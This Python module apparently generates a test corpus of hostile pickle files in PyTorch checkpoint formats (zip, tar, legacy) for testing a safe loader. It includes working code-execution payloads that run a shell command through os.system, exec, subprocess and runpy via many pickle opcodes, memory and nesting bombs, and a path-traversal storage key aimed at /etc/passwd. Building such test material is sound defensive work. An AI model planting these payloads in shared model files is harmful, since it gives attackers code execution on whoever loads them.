"""Pickles that run code, import, allocate or nest, one for each opcode that can; and the files in which they may lie."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

HUGE = 2**40
DEEP = 200_000


def programs(command: str) -> dict[str, bytes]:
    """Pickles by name; those that can run code run `command` in a shell."""
    text = command.encode()
    short = b"\x8c" + bytes([len(text)]) + text  # SHORT_BINUNICODE
    system = b"cos\nsystem\n"
    lazy = b"cbuiltins\nmap\n(" + system + b"](" + b"S'" + text + b"'\ne"  # map(os.system, [command])
    ordered = b"ccollections\nOrderedDict\n)R"
    return {
        "GLOBAL REDUCE": system + b"(S'" + text + b"'\ntR.",
        "GLOBAL REDUCE under a key": b"}S'model'\n" + system + b"(S'" + text + b"'\ntRs.",
        "GLOBAL that names eval": b"cbuiltins\nexec\n(S'import os; os.system(" + repr(command).encode() + b")'\ntR.",
        "GLOBAL of a module's module": b"ctorch.serialization\nos.system\n(S'" + text + b"'\ntR.",
        "STACK_GLOBAL REDUCE": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + short + b"\x85R.",
        "STACK_GLOBAL with a path": b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + short + b"\x85R.",
        "INST": b"(S'" + text + b"'\nios\nsystem\n.",
        "OBJ": b"(" + system + b"S'" + text + b"'\no.",
        "NEWOBJ": b"\x80\x02cbuiltins\nbytes\n(" + lazy + b"t\x81t\x81.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\nbytes\n(" + lazy + b"t}\x92t}\x92.",
        "BUILD": b"\x80\x02" + ordered + b"}S'__setstate__'\n" + system + b"sbS'" + text + b"'\nb.",
        "BUILD with slots": b"\x80\x02" + ordered + b"N}S'__setstate__'\n" + system + b"s\x86bS'" + text + b"'\nb.",
        "REDUCE of getattr": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'"
        + text
        + b"'\ntR.",
        "REDUCE of subprocess": b"csubprocess\ngetoutput\n(S'" + text + b"'\ntR.",
        "REDUCE of runpy": b"crunpy\n_run_code\n(S'import os; os.system(" + repr(command).encode() + b")'\n}tR.",
        "REDUCE of torch.load": b"ctorch\nload\n(S'other.pkl'\ntR.",
        "REDUCE of torch's hub": b"ctorch.hub\nload_state_dict_from_url\n(S'http://127.0.0.1:9/'\ntR.",
        "REDUCE of numpy": b"cnumpy.testing._private.utils\nrunstring\n(S'import os; os.system("
        + repr(command).encode()
        + b")'\n}tR.",
        "a call behind the end of a good one": pickle.dumps({"model": {}}, 2)[:-1]
        + system
        + b"(S'"
        + text
        + b"'\ntR0.",
        "EXT1": b"\x80\x02\x82\x01)R.",
        "EXT2": b"\x80\x02\x83\x01\x01)R.",
        "EXT4": b"\x80\x02\x84\x01\x01\x01\x00)R.",
        "PERSID": b"Pstorage\n.",
        "BINPERSID": b"\x80\x02U\x03abcQ.",
        "BINPERSID of a storage": b"\x80\x02(S'storage'\n" + system + b"S'0'\nS'cpu'\nK\x01tQ.",
        "FRAME": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.",
        "BINBYTES8": b"\x80\x04\x8e" + struct.pack("<Q", HUGE) + b"x.",
        "BINUNICODE8": b"\x80\x04\x8d" + struct.pack("<Q", HUGE) + b"x.",
        "BYTEARRAY8": b"\x80\x05\x96" + struct.pack("<Q", HUGE) + b"x.",
        "NEXT_BUFFER": b"\x80\x05\x97\x98.",
        "BINSTRING": b"\x80\x02T" + struct.pack("<i", -1) + b".",
        "BINUNICODE": b"\x80\x02X" + struct.pack("<I", 2**32 - 1) + b".",
        "LONG4": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b".",
        "LONG": b"L" + b"9" * 1_000_000 + b"L\n.",
        "INT": b"I" + b"9" * 1_000_000 + b"\n.",
        "LONG_BINPUT": b"\x80\x02}r" + struct.pack("<I", 2**31 - 2) + b".",
        "PUT": b"}p4000000000\n.",
        "memo of doubled lists": b"\x80\x02]q\x00" + b"".join(_doubled(n) for n in range(40)) + b".",
        "memo of doubled tuples": b"\x80\x02)" + b"2\x86" * 60 + b".",
        "a list in itself": b"\x80\x02]q\x00h\x00a.",
        "lists, deeply": b"]" * DEEP + b"a" * (DEEP - 1) + b".",
        "dictionaries, deeply": b"}K\x00" * DEEP + b"}" + b"s" * DEEP + b".",
        "tuples, deeply": b")" + b"\x85" * DEEP + b".",
        "SETITEMS of a list as a key": b"}(]K\x01u.",
        "POP of nothing": b"0000.",
        "no STOP": b"}" * 1000,
        "an unknown protocol": b"\x80\xff}.",
        "an unknown opcode": b"\x80\x02}\xff.",
        "FROZENSET": b"\x80\x04(K\x01\x91.",
    }


def _doubled(number: int) -> bytes:
    """A list of twice the list before."""
    return b"]q" + bytes([number + 1]) + b"(h" + bytes([number]) + b"h" + bytes([number]) + b"e"


def tensors(rng: np.random.Generator) -> dict[str, bytes]:
    """Pickles that torch takes, of tensors that do not lie where they say."""

    def of(numel: int, offset: int, size: str, stride: str, key: str = "0", device: str = "cpu") -> bytes:
        return (
            b"\x80\x02}S'model'\n}S'encoder.cls'\nctorch._utils\n_rebuild_tensor_v2\n((S'storage'\nctorch\nFloatStorage\n"
            + f"S'{key}'\nS'{device}'\nI{numel}\ntQI{offset}\n({size}t({stride}tI00\nccollections\nOrderedDict\n)RtRss.".encode()
        )

    one, big = "I1\n", f"I{HUGE}\n"
    return {
        "a storage beyond its record": of(HUGE, 0, big, one),
        "a size beyond its storage": of(4, 0, big, one),
        "an offset beyond its storage": of(4, HUGE, one, one),
        "a negative offset": of(4, -4, one, one),
        "a stride beyond its storage": of(4, 0, "I4\n", big),
        "a negative stride": of(4, 0, "I4\n", "I-1\n"),
        "a stride of zero": of(4, 0, big, "I0\n"),
        "a storage elsewhere": of(4, 0, one, one, key="../../../../etc/passwd"),
        "a storage on another device": of(4, 0, one, one, device=("cuda:7", "meta", "mps")[int(rng.integers(3))]),
        "more axes than there are": of(4, 0, "I1\n" * 200, "I1\n" * 200),
    }


def in_zip(content: bytes, path: Path, spoil: Callable[[list[tuple[str, bytes]]], object] | None = None) -> None:
    """A file as torch writes them since 1.6."""
    entries = [("archive/data.pkl", content), ("archive/byteorder", b"little"), ("archive/data/0", bytes(16))]
    entries += [("archive/version", b"3\n"), ("archive/.data/serialization_id", b"0" * 40)]
    if spoil is not None:
        spoil(entries)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries:
            archive.writestr(name, data)


def in_tar(content: bytes, path: Path) -> None:
    """As torch wrote them before 0.1.10: a tar of pickles."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))


def in_legacy(content: bytes, path: Path) -> None:
    """As torch wrote them before 1.6: pickles one behind another."""
    number = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    path.write_bytes(number + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + content)


def alone(content: bytes, path: Path) -> None:
    """A bare pickle."""
    path.write_bytes(content)


CONTAINERS = {"zip": in_zip, "alone": alone, "tar": in_tar, "legacy": in_legacy}
